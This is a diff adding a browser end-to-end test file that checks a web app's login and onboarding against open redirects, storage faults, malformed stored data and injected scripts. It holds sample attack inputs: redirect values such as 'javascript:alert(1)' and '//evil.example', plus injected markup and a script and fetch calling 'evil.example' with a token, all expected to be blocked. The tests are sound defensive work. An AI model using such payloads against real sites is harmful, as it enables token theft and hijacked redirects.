@@ -1,0 +1,247 @@
+import type { Page } from "playwright-core";
+import { expect, test } from "vitest";
+import { password } from "../api/testing/both-databases.ts";
+import { textField, write } from "./support/fill.ts";
+import { bringTo } from "./support/journeys.ts";
+import { leaveHere } from "./support/kept.ts";
+import { openPage } from "./support/page.ts";
+import { logInHere, logOut } from "./support/sign-up.ts";
+import { openSite } from "./support/site.ts";
+import {
+  atHeading,
+  atPath,
+  pathOf,
+  press,
+  saveAndContinue,
+  saved,
+  saveState,
+  supplierBase,
+} from "./support/steps.ts";
+
+const email = "nora@example.org";
+const location = `${supplierBase}/business-location`;
+
+test("attack 40: an address to come back to that leads elsewhere leads home", async () => {
+  const site = await openSite();
+  await site.signUp(email);
+  const page = await openPage(site);
+  for (const evil of [
+    "//evil.example",
+    "/\\evil.example",
+    "javascript:alert(1)",
+    "https://site.evil/login",
+  ]) {
+    await page.goto(`/login?returnTo=${encodeURIComponent(evil)}`);
+    await page.evaluate((address) => sessionStorage.setItem("returnTo", address), evil);
+    await logInHere(page, email);
+    await atHeading(page, "Choose your account type");
+    expect(new URL(page.url()).origin, evil).toBe(site.url);
+    await logOut(page);
+  }
+});
+
+/** Makes the browser's stores fail, as private windows and strict settings do. */
+function blockStores(): void {
+  const refuse = () => {
+    throw new DOMException("Access is denied for this document.", "SecurityError");
+  };
+  for (const store of ["localStorage", "sessionStorage", "indexedDB"])
+    Object.defineProperty(window, store, { get: refuse });
+}
+
+/** From the login over a saved step, in a browser with a fault. */
+async function logInAndSave(page: Page): Promise<void> {
+  await page.goto("/login");
+  await page.getByLabel("Remember me").check();
+  await logInHere(page, email);
+  await atPath(page, location);
+  await page.goto(`${supplierBase}/personal-details`);
+  await atHeading(page, "Personal Information");
+  await write(page, "City", "Savannah");
+  await saveAndContinue(page, "Supplier Info");
+  await saveState(page, saved);
+}
+
+const cannotKeep = "This browser does not let us keep what is typed over a reload.";
+
+test("attack 133: a browser that blocks every store, or has no room left, signs in and saves", async () => {
+  const site = await openSite();
+  const person = await site.signUp(email);
+  await bringTo(site, person, "supplier", "business-location");
+  const blocked = await openPage(site, { expected: [cannotKeep] });
+  await blocked.addInitScript(blockStores);
+  await logInAndSave(blocked);
+  await logOut(blocked);
+
+  const full = await openPage(site);
+  await full.goto("/login");
+  await full.evaluate(() => {
+    for (const store of [localStorage, sessionStorage]) {
+      let size = 2 ** 20;
+      for (let key = 0; size >= 1; key += 1) {
+        try {
+          store.setItem(`filler-${key}`, "x".repeat(size));
+        } catch {
+          size /= 2;
+        }
+      }
+    }
+  });
+  await logInAndSave(full);
+  await logOut(full);
+});
+
+test("attack 133: what an old release or a broken one left in the browser is passed over", async () => {
+  const site = await openSite();
+  const person = await site.signUp(email);
+  await bringTo(site, person, "supplier", "business-location");
+  const page = await openPage(site, { token: person.token });
+  await page.goto("/account-type");
+  await atHeading(page, "Choose your account type");
+  const own = (key: string) => `${person.userId}/${key}`;
+  await leaveHere(page, {
+    [own("auth")]: { user: 7, email: { a: 1 } },
+    [own("draft/supplier/business-location")]: '{"city":',
+    [own("draft/supplier/basic-information")]: [1, 2],
+    [own("draft/supplier/no-such-step")]: { city: 3 },
+    [own("save/supplier/a")]: null,
+    [own("save/supplier/b")]: { id: "b", step: "business-location", entry: "yes", at: 1 },
+    [own("save/supplier/c")]: { id: "c", step: "business-location", entry: { answer: 4 }, at: "now" },
+  });
+  await page.evaluate(() => {
+    localStorage.setItem("rememberedEmail", '{"email":');
+    sessionStorage.setItem("returnTo", "{");
+    sessionStorage.setItem("carryOver", "[]");
+    document.cookie = "email=%E0%A4%A; Path=/";
+  });
+  await page.goto(location);
+  await atHeading(page, "Business Location");
+  await write(page, "City", "Savannah");
+  await logOut(page);
+  await logInHere(page, email);
+  await atPath(page, location);
+  await page.evaluate(() => {
+    document.cookie = "authToken=%E0%A4%A; Path=/";
+  });
+  await page.goto("/user-name");
+  await atHeading(page, "Log in");
+});
+
+test("attack 134: a part of an older release that is gone asks to reload, and nothing typed is lost", async () => {
+  const site = await openSite();
+  const person = await site.signUp();
+  await bringTo(site, person, "supplier", "business-location");
+  const page = await openPage(site, { token: person.token, expected: ["status of 404", "Loading chunk"] });
+  await page.goto(location);
+  await write(page, "City", "Savannah");
+  // As the server answers once a newer release has taken the older one's place.
+  await page.route("**/assets/landing-page-*.js", (route) =>
+    route.fulfill({ status: 404, body: "Not found" }),
+  );
+  await page.getByRole("banner").getByRole("link", { name: "Sourcebridge" }).click();
+  await atHeading(page, "Unexpected Application Error!");
+  await page.getByText("Loading chunk landing failed").waitFor();
+  await page.unroute("**/assets/landing-page-*.js");
+  await press(page, "Reload the page");
+  await atPath(page, "/");
+  await page.goto(location);
+  await atHeading(page, "Business Location");
+  expect(await textField(page, "City").inputValue()).toBe("Savannah");
+});
+
+test("attack 135: a code is pasted as the mail writes it, with a dash", async () => {
+  const site = await openSite();
+  const page = await openPage(site);
+  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+  await page.goto("/signup");
+  await page.getByLabel("Email").fill(email);
+  await press(page, "Continue");
+  await atHeading(page, "Check Your Inbox");
+  const digits = await site.codeFor(email);
+  const box = page.getByLabel("Six-digit code");
+  await box.focus();
+  for (const spelling of [
+    `${digits.slice(0, 3)}-${digits.slice(3)}`,
+    ` ${digits.slice(0, 3)} ${digits.slice(3)}\n`,
+  ]) {
+    await page.evaluate((text) => navigator.clipboard.writeText(text), spelling);
+    await page.keyboard.press("ControlOrMeta+A");
+    await page.keyboard.press("ControlOrMeta+V");
+    await expect.poll(() => box.inputValue()).toBe(digits);
+  }
+  await press(page, "Verify");
+  await atHeading(page, "Secure Your Account");
+});
+
+/** Fills a field as a browser's own filling does: the value is there, and no key was pressed, nothing was left. */
+async function autofill(page: Page, autocomplete: string, text: string): Promise<void> {
+  await page
+    .locator(`input[autocomplete="${autocomplete}"]:visible`)
+    .first()
+    .evaluate((box, value) => {
+      Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value")?.set?.call(box, value);
+      box.dispatchEvent(new Event("input", { bubbles: true }));
+      box.dispatchEvent(new Event("change", { bubbles: true }));
+    }, text);
+}
+
+test("attack 135: what a password manager fills in is taken, on each page that it knows", async () => {
+  const site = await openSite();
+  const page = await openPage(site, { expected: ["status of 401"] });
+  await page.goto("/signup");
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  await autofill(page, "email", email);
+  await press(page, "Continue");
+  await atHeading(page, "Check Your Inbox");
+  await autofill(page, "one-time-code", await site.codeFor(email));
+  await press(page, "Verify");
+  await atHeading(page, "Secure Your Account");
+  const account = page.locator("input[autocomplete=username]");
+  expect(await account.inputValue(), "the account that the new password is kept for").toBe(email);
+  for (const box of await page.locator("input[autocomplete=new-password]").all()) await box.fill(password);
+  await press(page, "Continue");
+  await atHeading(page, "Account Created");
+  await logOut(page);
+
+  await page.goto("/login");
+  await atHeading(page, "Log in");
+  await autofill(page, "username", email);
+  await autofill(page, "current-password", password);
+  await page.keyboard.press("Tab");
+  await press(page, "Continue");
+  await atHeading(page, "Choose your account type");
+});
+
+test("attack 135: scripts that somebody puts into the page do not run", async () => {
+  const site = await openSite();
+  const page = await openPage(site, {
+    expected: ["Content Security Policy", "ERR_BLOCKED_BY_CSP", "nowhere.png"],
+  });
+  await page.goto("/login");
+  await atHeading(page, "Log in");
+  const refused = await page.evaluate(async () => {
+    const seen: string[] = [];
+    document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
+    const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
+    add(
+      '<img src="/nowhere.png" onerror="window.ran = true"><button id="trap" onclick="window.ran = true">x</button>',
+    );
+    document.getElementById("trap")?.click();
+    const script = (fill: (made: HTMLScriptElement) => void) => {
+      const made = document.createElement("script");
+      fill(made);
+      document.body.append(made);
+    };
+    script((made) => made.append("window.ran = true"));
+    script((made) => {
+      made.src = "https://evil.example/steal.js";
+    });
+    add('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"></form>');
+    await fetch("https://evil.example/?token=1").catch(() => undefined);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return { seen: [...new Set(seen)].sort(), ran: "ran" in window };
+  });
+  expect(refused.ran).toBe(false);
+  expect(refused.seen).toEqual(["connect-src", "frame-src", "script-src-attr", "script-src-elem"]);
+  expect(pathOf(page)).toBe("/login");
+});
